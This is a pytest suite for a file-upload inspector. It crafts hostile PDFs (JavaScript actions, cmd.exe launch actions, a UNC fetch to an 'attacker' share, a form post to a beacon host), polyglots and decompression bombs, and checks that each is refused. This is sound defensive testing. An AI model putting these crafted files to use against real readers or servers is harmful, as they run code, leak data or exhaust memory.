"""What a stored file really is: a corpus of crafted files, each with its expected outcome.

Every file is made here, in tmp_path, by pypdf, Pillow or by hand; no binary fixture is kept.
"""

from __future__ import annotations

import hashlib
import io
import os
import random
import re
import struct
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject
from tawasul_docs.domain import inspection
from tawasul_docs.domain.inspection import (
    CHUNK_BYTES,
    EXTENSIONS,
    Inspection,
    Kind,
    Refused,
    inspect_file,
    stored_name,
)
from tawasul_docs.domain.names import MAX_FILENAME
from tawasul_platform.errors import InvalidArgument

ALL = frozenset(Kind)
MAX = 10 * 1024 * 1024

# --- the corpus: PDFs ---------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R%s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> >>%s >>"
)
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(content), entries) + content + b"\nendstream"


def pdf_file(
    objects: list[bytes],
    *,
    header: bytes = b"%PDF-1.4\n",
    unlisted: bytes = b"",
    deleted_at_zero: int = 0,
) -> bytes:
    """A PDF with a classic cross-reference table; object 1 is the catalog.

    `unlisted` goes in the body without an entry in the table: a hidden object.
    `deleted_at_zero` more entries are listed in use at offset 0, as macOS' Quartz writes the
    objects it deleted.
    """
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += unlisted
    xref = len(out)
    offsets += [0] * deleted_at_zero
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(offsets) + 1,
        xref,
    )
    return bytes(out)


def minimal_pdf(
    text: str = "Tawasul",
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    content: bytes | None = None,
    extra: tuple[bytes, ...] = (),
    header: bytes = b"%PDF-1.4\n",
    unlisted: bytes = b"",
    deleted_at_zero: int = 0,
    font: bytes = FONT,
) -> bytes:
    """Like the devstack's sample_pdf: one page showing `text`; entries can be added."""
    shown = content if content is not None else b"BT /F1 18 Tf 72 720 Td (%s) Tj ET" % text.encode()
    objects = [CATALOG % catalog, PAGES, PAGE % page, stream(shown), font, *extra]
    return pdf_file(objects, header=header, unlisted=unlisted, deleted_at_zero=deleted_at_zero)


def object_stream_pdf(hidden: bytes) -> bytes:
    """A PDF 1.5 whose object 6, the catalog's OpenAction, is packed in a compressed object
    stream (object 7) behind a cross-reference stream (object 8): invisible to a raw scan."""
    packed = b"6 0 "
    data = zlib.compress(packed + hidden)
    objects = [
        CATALOG % b" /OpenAction 6 0 R",
        PAGES,
        PAGE % b"",
        stream(b"BT /F1 18 Tf 72 720 Td (packed) Tj ET"),
        FONT,
        None,
        stream(data, b" /Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(packed)),
    ]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in enumerate(objects, start=1):
        if body is not None:
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[8] = len(out)
    rows = [b"\x00" + struct.pack(">IH", 0, 0xFFFF)]
    for number in range(1, 9):
        if number == 6:
            rows.append(b"\x02" + struct.pack(">IH", 7, 0))
        else:
            rows.append(b"\x01" + struct.pack(">IH", offsets[number], 0))
    xref = stream(b"".join(rows), b" /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R")
    out += b"8 0 obj\n" + xref + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[8]
    return bytes(out)


def written_pdf(change: Callable[[PdfWriter], object] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_blank_page(width=595, height=842)
    if change is not None:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def with_attachment(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ not really")


def with_open_javascript(writer: PdfWriter) -> None:
    writer.add_open_action(JavaScript("app.alert(1)"))


def encrypted(writer: PdfWriter) -> None:
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")


def with_link_javascript(writer: PdfWriter) -> None:
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 100, 40)]),
            NameObject("/A"): JavaScript("app.launchURL('x')"),
        }
    )
    writer.add_annotation(0, link)


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("document.pdf", minimal_pdf())
    return buffer.getvalue()


def broken_xref(data: bytes) -> bytes:
    """The startxref offset pointing into the middle of an object."""
    head, _, tail = data.rpartition(b"startxref\n")
    return head + b"startxref\n" + b"%d" % 40 + tail[tail.index(b"\n") :]


# --- the corpus: images -------------------------------------------------------------------------


def picture(size: tuple[int, int] = (64, 48)) -> Image.Image:
    image = Image.new("RGB", size, (200, 30, 30))
    for x in range(0, size[0], 4):
        image.putpixel((x, x % size[1]), (10, 10, 240))
    return image


def jpeg(size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    buffer = io.BytesIO()
    picture(size).save(buffer, "JPEG", **options)
    return buffer.getvalue()


def png(size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    picture(size).save(buffer, "PNG")
    return buffer.getvalue()


def noisy_png() -> bytes:
    """A PNG of a few KB, so that what follows it lies past the first 1024 bytes."""
    image = Image.frombytes("L", (64, 64), random.Random(9).randbytes(64 * 64))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    assert len(buffer.getvalue()) > 2048
    return buffer.getvalue()


def mpo() -> bytes:
    buffer = io.BytesIO()
    picture().save(buffer, "MPO", save_all=True, append_images=[picture((32, 24))])
    return buffer.getvalue()


def mpo_with_gap(gap: bytes) -> bytes:
    """An MPO whose second picture is moved on by `gap`, its index left as it was."""
    data = mpo()
    second = data.index(b"\xff\xd8", 2)
    while data[second - 2 : second] != b"\xff\xd9":  # the second SOI after the first's EOI
        second = data.index(b"\xff\xd8", second + 2)
    return data[:second] + gap + data[second:]


def jpeg_with_thumbnail() -> bytes:
    """An APP1 segment holding a whole JPEG, EOI included, before the image's own data."""
    return jpeg(exif=b"Exif\x00\x00" + jpeg((16, 12)))


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(width: int, height: int, bits: int = 1) -> bytes:
    """A greyscale PNG of the given size whose every pixel is black: a few KB on disk."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + (width * bits + 7) // 8)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 0))
        + png_chunk(b"IDAT", data)
        + png_chunk(b"IEND", b"")
    )


# --- the table ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Accepted:
    kind: Kind
    pages: int | None = None
    width: int | None = None
    height: int | None = None


@dataclass(frozen=True)
class Case:
    name: str
    data: Callable[[], bytes]
    expected: Accepted | tuple[str, str]
    declared: str = ""
    allowed: frozenset[Kind] = ALL
    max_bytes: int = MAX


PDF_INVALID = "not a readable PDF (header, cross-reference or trailer)"
PDF_END = "the PDF is truncated or has data after its end"
JAVASCRIPT = ("content", "the PDF contains JavaScript")
REACHES_OUT = ("content", "the PDF reaches out to another file or address by itself when opened")
ZIP = ("content", "ZIP archives are not accepted")
LAUNCH = ("content", "the PDF contains a launch action")
EMBEDDED = ("content", "the PDF contains embedded files")
HTML = ("content", "HTML or script content is not accepted")
UNKNOWN = ("content", "only PDF or JPG files, detected by content")
TOO_LARGE = ("content", "the image is too large: at most 50 megapixels")
JPEG_AFTER = ("content", "data after the end of the JPEG image is not accepted")
PNG_AFTER = ("content", "data after the end of the PNG image is not accepted")
PDF_IN_IMAGE = ("content", "an image with a PDF inside is not accepted")
MISMATCH = "the declared type does not match the content, which is"

CASES = [
    # What is accepted.
    Case("hand-made PDF", minimal_pdf, Accepted(Kind.PDF, pages=1)),
    Case("PdfWriter PDF", written_pdf, Accepted(Kind.PDF, pages=2)),
    Case("PDF 2.0", lambda: minimal_pdf(header=b"%PDF-2.0\n"), Accepted(Kind.PDF, pages=1)),
    Case("PDF then CRLF", lambda: minimal_pdf() + b"\r\n", Accepted(Kind.PDF, pages=1)),
    Case(
        "PDF whose stream data holds /JS and /XFA by chance",
        lambda: minimal_pdf(content=b"\x9c/JS (x)\x01/XFA 3 0 R\xfe"),
        Accepted(Kind.PDF, pages=1),
    ),
    Case("JPEG", jpeg, Accepted(Kind.JPEG, width=64, height=48)),
    Case(
        "progressive JPEG", lambda: jpeg(progressive=True), Accepted(Kind.JPEG, width=64, height=48)
    ),
    Case("JPEG with EXIF thumbnail", jpeg_with_thumbnail, Accepted(Kind.JPEG, width=64, height=48)),
    Case(
        "JPEG with padding", lambda: jpeg() + b"\x00" * 16, Accepted(Kind.JPEG, width=64, height=48)
    ),
    Case("PNG", png, Accepted(Kind.PNG, width=64, height=48)),
    Case("PNG with padding", lambda: png() + b"\n" * 8, Accepted(Kind.PNG, width=64, height=48)),
    Case(
        "PDF listing deleted objects at offset 0 (macOS Quartz)",
        lambda: minimal_pdf(deleted_at_zero=2),
        Accepted(Kind.PDF, pages=1),
    ),
    Case(
        "PDF referring to an object that does not exist (null)",
        lambda: minimal_pdf(catalog=b" /Metadata 42 0 R"),
        Accepted(Kind.PDF, pages=1),
    ),
    Case(
        "PDF with a broken object nothing refers to",
        lambda: minimal_pdf(extra=(b"<< /Type /Font /Subtype",)),
        Accepted(Kind.PDF, pages=1),
    ),
    Case(
        "declared image/jpg", jpeg, Accepted(Kind.JPEG, width=64, height=48), declared="image/jpg"
    ),
    Case(
        "declared with parameters",
        minimal_pdf,
        Accepted(Kind.PDF, pages=1),
        declared=" Application/PDF; name=x ",
    ),
    Case("exactly the limit", png, Accepted(Kind.PNG, width=64, height=48), max_bytes=len(png())),
    Case(
        "just under the pixel limit",
        lambda: bomb_png(7071, 7071),
        Accepted(Kind.PNG, width=7071, height=7071),
    ),
    # Not what it says, or not what is allowed.
    Case("empty", lambda: b"", ("content", "the file is empty")),
    Case("EXE", lambda: b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run", UNKNOWN),
    Case("plain text", lambda: b"just some words\n" * 20, UNKNOWN),
    Case("ZIP", zip_archive, ("content", "ZIP archives are not accepted")),
    Case("oversize", png, ("size", "the file is larger than 100 bytes"), max_bytes=100),
    Case(
        "one byte over the limit",
        png,
        ("size", f"the file is larger than {len(png()) - 1} bytes"),
        max_bytes=len(png()) - 1,
    ),
    Case(
        "type not allowed",
        jpeg,
        ("content", "JPEG files are not accepted here: only PDF"),
        allowed=frozenset({Kind.PDF}),
    ),
    Case(
        "PNG not allowed",
        png,
        ("content", "PNG files are not accepted here: only PDF or JPG"),
        allowed=frozenset({Kind.PDF, Kind.JPEG}),
    ),
    Case(
        "declared PNG, is PDF",
        minimal_pdf,
        ("declared_content_type", f"{MISMATCH} PDF"),
        "image/png",
    ),
    Case(
        "declared PDF, is JPEG",
        jpeg,
        ("declared_content_type", f"{MISMATCH} JPEG"),
        "application/pdf",
    ),
    Case(
        "declared octet-stream",
        png,
        ("declared_content_type", f"{MISMATCH} PNG"),
        "application/octet-stream",
    ),
    # Truncated or broken.
    Case("PDF cut in half", lambda: minimal_pdf()[: len(minimal_pdf()) // 2], ("content", PDF_END)),
    Case("PDF without %%EOF", lambda: minimal_pdf()[: -len(b"%%EOF\n")], ("content", PDF_END)),
    Case("PDF with a broken xref", lambda: broken_xref(minimal_pdf()), ("content", PDF_INVALID)),
    Case(
        "PDF with only a header and an EOF",
        lambda: b"%PDF-1.7\n1 0 obj << >> endobj\ntrailer\n%%EOF\n",
        ("content", PDF_INVALID),
    ),
    Case(
        "PDF whose page refers to a broken object",
        lambda: minimal_pdf(font=b"<< /Type /Font /Subtype"),
        ("content", PDF_INVALID),
    ),
    Case(
        "PDF of an unknown version",
        lambda: minimal_pdf(header=b"%PDF-3.0\n"),
        ("content", "the PDF header names no known version"),
    ),
    Case(
        "PDF without pages",
        lambda: pdf_file([CATALOG % b"", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        ("content", "the PDF has no pages"),
    ),
    Case(
        "JPEG cut in its data",
        lambda: jpeg()[:-100],
        ("content", "the JPEG image is truncated"),
    ),
    Case("JPEG cut in its header", lambda: jpeg()[:40], ("content", "not a decodable JPEG image")),
    Case("PNG cut before IEND", lambda: png()[:-12], ("content", "not a decodable PNG image")),
    Case("PNG cut in IDAT", lambda: png()[:-30], ("content", "not a decodable PNG image")),
    # Polyglots.
    Case(
        "HTML then PDF",
        lambda: b"<!DOCTYPE html><html><body>hi</body></html>\n" + minimal_pdf(),
        HTML,
    ),
    Case(
        "PDF with a script in a comment",
        lambda: minimal_pdf(header=b"%PDF-1.4\n%<script>x</script>\n"),
        HTML,
    ),
    Case("JPEG with a script comment", lambda: jpeg(comment=b"<SCRIPT>alert(1)</SCRIPT>"), HTML),
    Case(
        "junk then PDF",
        lambda: b"GIF89a\x01\x00\x01\x00" + minimal_pdf(),
        ("content", "data before the PDF header is not accepted"),
    ),
    Case("JPEG then PDF", lambda: jpeg() + minimal_pdf(), PDF_IN_IMAGE),
    Case("PNG then PDF", lambda: png() + minimal_pdf(), PDF_IN_IMAGE),
    Case("JPEG then text", lambda: jpeg() + b"hello " * 3, JPEG_AFTER),
    Case(
        "small PNG then ZIP",
        lambda: png() + zip_archive(),
        ("content", "ZIP archives are not accepted"),
    ),
    Case("PNG then ZIP", lambda: noisy_png() + zip_archive(), ZIP),
    Case("PNG then too much padding", lambda: png() + b"\x00" * 100, PNG_AFTER),
    Case("PDF then ZIP", lambda: minimal_pdf("x" * 1024) + zip_archive(), ZIP),
    Case(
        "PDF with a ZIP in a stream past its first KiB",
        lambda: minimal_pdf(extra=(stream(b"x" * 2048 + zip_archive()),)),
        ZIP,
    ),
    Case("PDF then a little text", lambda: minimal_pdf() + b"more", ("content", PDF_END)),
    # An Ultra HDR phone photo or a camera's MPO: further pictures its index lists, each a
    # whole JPEG right after the one before; every viewer shows the first.
    Case("JPEG with more pictures (MPO)", mpo, Accepted(Kind.JPEG, width=64, height=48)),
    Case("MPO then text", lambda: mpo() + b"hello " * 3, JPEG_AFTER),
    Case(
        "MPO whose second picture is cut",
        lambda: mpo()[:-100],
        ("content", "the JPEG image is truncated"),
    ),
    Case(
        "MPO with data between its pictures",
        lambda: mpo_with_gap(b"not a picture"),
        ("content", "not a plain JPEG image"),
    ),
    # Active content.
    Case(
        "PDF with JavaScript in OpenAction",
        lambda: minimal_pdf(catalog=b" /OpenAction " + JS_ACTION),
        JAVASCRIPT,
    ),
    Case("PdfWriter open action JavaScript", lambda: written_pdf(with_open_javascript), JAVASCRIPT),
    Case(
        "PDF with JavaScript in a page's AA",
        lambda: minimal_pdf(page=b" /AA << /O " + JS_ACTION + b" >>"),
        JAVASCRIPT,
    ),
    Case("PDF with JavaScript in a link", lambda: written_pdf(with_link_javascript), JAVASCRIPT),
    Case(
        "PDF with a JavaScript name tree",
        lambda: minimal_pdf(
            catalog=b" /Names << /JavaScript << /Names [(a) 6 0 R] >> >>", extra=(JS_ACTION,)
        ),
        JAVASCRIPT,
    ),
    Case(
        "PDF with #-escaped JavaScript",
        lambda: minimal_pdf(catalog=b" /OpenAction << /S /J#61vaScript /J#53 (x) >>"),
        JAVASCRIPT,
    ),
    Case(
        "PDF with JavaScript in a compressed object stream",
        lambda: object_stream_pdf(JS_ACTION),
        JAVASCRIPT,
    ),
    Case(
        "PDF with JavaScript in an object no table lists",
        lambda: minimal_pdf(unlisted=b"99 0 obj\n<< /S /J#61vaScript >>\nendobj\n"),
        JAVASCRIPT,
    ),
    Case(
        "PDF whose OpenAction is an object no table lists",
        lambda: minimal_pdf(
            catalog=b" /OpenAction 99 0 R", unlisted=b"99 0 obj\n" + JS_ACTION + b"\nendobj\n"
        ),
        JAVASCRIPT,
    ),
    Case(
        "PDF with a /JS key outside any stream",
        lambda: minimal_pdf(unlisted=b"99 0 obj\n<< /JS 12 0 R >>\nendobj\n"),
        JAVASCRIPT,
    ),
    Case(
        "PDF with a launch action",
        lambda: minimal_pdf(catalog=b" /OpenAction << /S /Launch /F (cmd.exe) >>"),
        LAUNCH,
    ),
    Case(
        "PDF with a launch action in a link",
        lambda: minimal_pdf(
            page=b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /Launch /F (x.bat) >> >>]"
        ),
        LAUNCH,
    ),
    Case(
        "PDF with a launch action in a compressed object stream",
        lambda: object_stream_pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        LAUNCH,
    ),
    Case(
        "PDF that opens a file on a UNC path by itself",
        lambda: minimal_pdf(
            catalog=b" /OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>"
        ),
        REACHES_OUT,
    ),
    Case(
        "PDF whose page posts a form when opened, after a harmless action",
        lambda: minimal_pdf(
            page=b" /AA << /O << /S /GoTo /D [0 /Fit] "
            b"/Next << /S /SubmitForm /F (https://beacon.example/) >> >> >>"
        ),
        REACHES_OUT,
    ),
    Case(
        "PDF with a javascript: link",
        lambda: minimal_pdf(
            page=b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /URI /URI (JavaScript:alert\\(1\\)) >> >>]"
        ),
        JAVASCRIPT,
    ),
    Case(
        "PDF with a web link a person may follow, and an opening page",
        lambda: minimal_pdf(
            catalog=b" /OpenAction [3 0 R /Fit]",
            page=b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /URI /URI (https://www.my.gov.sa/) >> >>]",
        ),
        Accepted(Kind.PDF, pages=1),
    ),
    Case("PDF with an embedded file", lambda: written_pdf(with_attachment), EMBEDDED),
    Case(
        "PDF with a file attachment annotation",
        lambda: minimal_pdf(
            page=b" /Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
            b"/FS 6 0 R >>]",
            extra=(b"<< /Type /Filespec /F (a.txt) >>",),
        ),
        EMBEDDED,
    ),
    Case(
        "PDF with rich media",
        lambda: minimal_pdf(
            page=b" /Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"
        ),
        ("content", "the PDF contains rich media"),
    ),
    Case(
        "PDF with an XFA form",
        lambda: minimal_pdf(
            catalog=b" /AcroForm << /Fields [] /XFA 6 0 R >>", extra=(stream(b"<xdp/>"),)
        ),
        ("content", "the PDF contains an XFA form"),
    ),
    Case("encrypted PDF", lambda: written_pdf(encrypted), ("content", "the PDF is encrypted")),
    # Decompression bombs.
    Case("PNG over the pixel limit", lambda: bomb_png(8000, 7000), TOO_LARGE),
    Case("PNG bomb Pillow refuses itself", lambda: bomb_png(20000, 20000), TOO_LARGE),
]


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_each_file_of_the_corpus_has_its_outcome(case: Case, tmp_path: Path) -> None:
    data = case.data()
    path = tmp_path / "upload"
    path.write_bytes(data)

    def inspect() -> Inspection:
        return inspect_file(
            path, declared_type=case.declared, max_bytes=case.max_bytes, allowed=case.allowed
        )

    if isinstance(case.expected, Accepted):
        assert inspect() == Inspection(
            kind=case.expected.kind,
            size_bytes=len(data),
            sha256=hashlib.sha256(data).hexdigest(),
            pages=case.expected.pages,
            width=case.expected.width,
            height=case.expected.height,
        )
    else:
        with pytest.raises(Refused) as refused:
            inspect()
        assert (refused.value.field, refused.value.reason) == case.expected


def test_a_refusal_is_an_invalid_argument_with_its_field(tmp_path: Path) -> None:
    path = tmp_path / "empty"
    path.write_bytes(b"")
    with pytest.raises(InvalidArgument) as error:
        inspect_file(path, declared_type="", max_bytes=MAX, allowed=ALL)
    assert error.value.violations == {"content": "the file is empty"}


def test_a_reason_never_echoes_the_content_or_the_declared_type(tmp_path: Path) -> None:
    secret = "<script>steal()</script>"
    path = tmp_path / "upload"
    path.write_bytes(minimal_pdf(header=b"%PDF-1.4\n%" + secret.encode() + b"\n"))
    with pytest.raises(Refused) as refused:
        inspect_file(path, declared_type=secret, max_bytes=MAX, allowed=ALL)
    assert secret not in str(refused.value)
    path.write_bytes(jpeg())
    with pytest.raises(Refused) as refused:
        inspect_file(path, declared_type=secret, max_bytes=MAX, allowed=ALL)
    assert refused.value.field == "declared_content_type"
    assert secret not in str(refused.value)


def test_a_name_cut_by_a_chunk_boundary_is_still_seen(tmp_path: Path) -> None:
    """The raw scan reads CHUNK_BYTES at a time; '/JavaScript' straddles the first boundary."""
    hidden = b"99 0 obj\n<< /S /JavaScript >>\nendobj\n"
    probe = minimal_pdf(unlisted=b"%" + b"x" * 10 + b"\n" + hidden)
    where = probe.index(b"/JavaScript")
    padding = CHUNK_BYTES - 5 - where + 10
    data = minimal_pdf(unlisted=b"%" + b"x" * padding + b"\n" + hidden)
    assert data.index(b"/JavaScript") < CHUNK_BYTES < data.index(b"/JavaScript") + 11
    path = tmp_path / "upload"
    path.write_bytes(data)
    with pytest.raises(Refused) as refused:
        inspect_file(path, declared_type="", max_bytes=MAX, allowed=ALL)
    assert refused.value.reason == JAVASCRIPT[1]


def test_an_unfinished_name_at_a_chunk_boundary_is_not_taken_for_a_shorter_one(
    tmp_path: Path,
) -> None:
    """'/JavaScriptish' cut after 'JavaScript' by the boundary is still not /JavaScript."""
    probe = minimal_pdf(unlisted=b"%" + b"x" * 10 + b"\n/JavaScriptish\n")
    where = probe.index(b"/JavaScriptish")
    data = minimal_pdf(
        unlisted=b"%" + b"x" * (CHUNK_BYTES - 11 - where + 10) + b"\n/JavaScriptish\n"
    )
    assert data.index(b"/JavaScriptish") + 11 == CHUNK_BYTES
    path = tmp_path / "upload"
    path.write_bytes(data)
    assert inspect_file(path, declared_type="", max_bytes=MAX, allowed=ALL).pages == 1


def test_an_image_is_read_in_chunks_not_whole(tmp_path: Path) -> None:
    noise = Image.frombytes("RGB", (1200, 1200), os.urandom(1200 * 1200 * 3))
    path = tmp_path / "noise.jpg"
    noise.save(path, "JPEG", quality=100)
    size = path.stat().st_size
    assert size > 2_000_000
    tracemalloc.start()
    try:
        result = inspect_file(path, declared_type="image/jpeg", max_bytes=MAX, allowed=ALL)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.size_bytes == size
    assert peak < 1_000_000 < size


def test_inspections_in_worker_threads_agree_with_one_thread(tmp_path: Path) -> None:
    files = {
        "pdf": minimal_pdf(),
        "written": written_pdf(),
        "jpeg": jpeg(),
        "png": png(),
        "javascript": written_pdf(with_open_javascript),
        "bomb": bomb_png(8000, 7000),
        "polyglot": jpeg() + minimal_pdf(),
    }
    paths = []
    for name, data in files.items():
        path = tmp_path / name
        path.write_bytes(data)
        paths.append(path)

    def outcome(path: Path) -> Inspection | str:
        try:
            return inspect_file(path, declared_type="", max_bytes=MAX, allowed=ALL)
        except Refused as refused:
            return refused.reason

    alone = [outcome(path) for path in paths]
    with ThreadPoolExecutor(max_workers=8) as pool:
        together = list(pool.map(outcome, paths * 6))
    assert together == alone * 6


def test_a_jpeg_end_split_by_a_chunk_boundary_is_found(tmp_path: Path) -> None:
    """The framing walk reads CHUNK_BYTES at a time from byte 2; the EOI's 0xFF is the last
    byte of the first chunk and its 0xD9 the first of the next."""
    data = jpeg()
    scan = data.index(b"\xff\xda")
    data_start = scan + 2 + int.from_bytes(data[scan + 2 : scan + 4], "big")
    eoi = 2 + CHUNK_BYTES - 1
    image = data[:data_start] + b"\x00" * (eoi - data_start) + b"\xff\xd9"
    assert image.index(b"\xff\xd9", data_start) == eoi
    path = tmp_path / "split.jpg"
    path.write_bytes(image)
    assert inspect_file(path, declared_type="", max_bytes=MAX, allowed=ALL).width == 64
    path.write_bytes(image + b"tail")
    with pytest.raises(Refused) as refused:
        inspect_file(path, declared_type="", max_bytes=MAX, allowed=ALL)
    assert refused.value.reason == JPEG_AFTER[1]


@pytest.mark.parametrize("action", ["error", "ignore"])
def test_pillows_own_bomb_warning_is_a_refusal_whatever_the_warning_filters(
    action: Literal["error", "ignore"], tmp_path: Path
) -> None:
    """100 megapixels: over Pillow's warning threshold, under its error threshold."""
    path = tmp_path / "bomb.png"
    path.write_bytes(bomb_png(10000, 10000))
    with warnings.catch_warnings():
        warnings.simplefilter(action, Image.DecompressionBombWarning)
        with pytest.raises(Refused) as refused:
            inspect_file(path, declared_type="", max_bytes=MAX, allowed=ALL)
    assert (refused.value.field, refused.value.reason) == TOO_LARGE


def test_a_non_positive_limit_is_a_programming_error(tmp_path: Path) -> None:
    path = tmp_path / "upload"
    path.write_bytes(png())
    with pytest.raises(ValueError, match="max_bytes"):
        inspect_file(path, declared_type="", max_bytes=0, allowed=ALL)


def test_the_pixel_limit_is_fifty_megapixels() -> None:
    assert inspection.MAX_PIXELS == 50_000_000
    assert 7071 * 7071 <= inspection.MAX_PIXELS < 8000 * 7000


# --- what a PDF's streams decode to --------------------------------------------------------------

BUDGET = 1024 * 1024  # max_bytes here, which object streams may decode to: quick to make
EXPANDS = "the PDF expands too much"


def xref_stream_pdf(
    objects: dict[int, bytes], packed: dict[int, int], extra_rows: int = 0
) -> bytes:
    """A one-page PDF 1.5 (catalog 1, pages 2, page 3) with `objects` besides, behind a
    cross-reference stream that lists `packed` {object: object stream} as compressed and
    `extra_rows` more objects, all at the page's offset."""
    body = {1: CATALOG % b"", 2: PAGES, 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"}
    body |= objects
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    rows = {0: b"\x00" + struct.pack(">IH", 0, 0xFFFF)}
    for number, text in sorted(body.items()):
        rows[number] = b"\x01" + struct.pack(">IH", len(out), 0)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    rows |= {number: b"\x02" + struct.pack(">IH", stream, 0) for number, stream in packed.items()}
    xref = max(rows) + 1
    rows[xref] = b"\x01" + struct.pack(">IH", len(out), 0)
    table = b"".join(rows.get(n, rows[0]) for n in range(xref + 1)) + rows[3] * extra_rows
    data = zlib.compress(table)
    out += b"%d 0 obj\n" % xref + stream(
        data,
        b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
        % (xref + 1 + extra_rows),
    )
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % int.from_bytes(rows[xref][1:5], "big")
    return bytes(out)


def object_stream_bomb(streams: int, inflated: int, *, as_lengths: bool = False) -> bytes:
    """`streams` compressed object streams (objects 100…) of a few KB each, each holding one
    object (1000…), the number 0 padded with spaces to `inflated` bytes; nothing refers to them.

    With `as_lengths`, each of those numbers is the /Length of an empty stream (10…), which
    reading that stream resolves, and so decodes its object stream on the way."""
    objects, packed = {}, {}
    for index in range(streams):
        member, number = 1000 + index, 100 + index
        header = b"%d 0 " % member
        data = header + b"0" + b" " * (inflated - len(header) - 1)
        entries = b" /Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header)
        objects[number] = stream(zlib.compress(data), entries)
        packed[member] = number
        if as_lengths:
            objects[10 + index] = b"<< /Length %d 0 R >>\nstream\n\nendstream" % member
    return xref_stream_pdf(objects, packed)


def peak_of(inspect: Callable[[], object]) -> tuple[object, int]:
    """What `inspect` returns or the reason it refuses, and the most it held at once."""
    tracemalloc.start()
    try:
        try:
            outcome = inspect()
        except Refused as refused:
            outcome = refused.reason
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return outcome, peak


def inspect_pdf(path: Path, data: bytes, max_bytes: int = BUDGET) -> Callable[[], object]:
    path.write_bytes(data)
    return lambda: inspect_file(path, declared_type="", max_bytes=max_bytes, allowed=ALL).pages


@pytest.mark.parametrize("as_lengths", [False, True], ids=["listed", "as lengths"])
def test_object_streams_that_decode_past_the_budget_are_refused_never_held_together(
    as_lengths: bool, tmp_path: Path
) -> None:
    """Twelve streams of half the budget: pypdf kept every one decoded, and accepted the file."""
    data = object_stream_bomb(12, BUDGET // 2, as_lengths=as_lengths)
    assert len(data) < BUDGET // 100
    outcome, peak = peak_of(inspect_pdf(tmp_path / "bomb.pdf", data))
    assert outcome == EXPANDS
    assert peak < 3 * BUDGET


def test_one_object_stream_past_the_budget_is_refused_though_nothing_refers_to_it(
    tmp_path: Path,
) -> None:
    """Far under pypdf's own limit of 75 MB; and nothing refers to its object, the walk skips
    such an object when it cannot be read, but a limit reached is still a refusal."""
    outcome, peak = peak_of(inspect_pdf(tmp_path / "bomb.pdf", object_stream_bomb(1, BUDGET + 1)))
    assert outcome == EXPANDS
